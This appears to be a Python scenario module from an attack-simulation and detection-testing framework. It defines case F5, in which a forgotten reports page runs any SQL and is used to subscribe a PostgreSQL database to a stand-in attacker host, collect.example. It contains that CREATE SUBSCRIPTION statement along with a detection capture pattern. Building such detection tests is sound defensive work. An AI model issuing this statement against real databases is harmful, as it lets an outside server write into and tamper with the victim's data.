"""F5: a subscription lets another server write into this one."""

from backwatch.attack.clients.psycopg2 import Psycopg2
from backwatch.attack.scenarios import Run
from backwatch.attack.techniques.sql import ReportPage


class Subscribes(ReportPage):
    """A forgotten page for reports executes any statement."""

    code = "F5"
    attack = "subscribes the database to a server of the attacker's"
    reference = "https://attack.mitre.org/techniques/T1210/"
    rule = "lateral-movement"
    captures = b"CREATE SUBSCRIPTION"
    statement = "CREATE SUBSCRIPTION s CONNECTION 'host=collect.example dbname=shop' PUBLICATION p"
    runs = (Run(Psycopg2),)
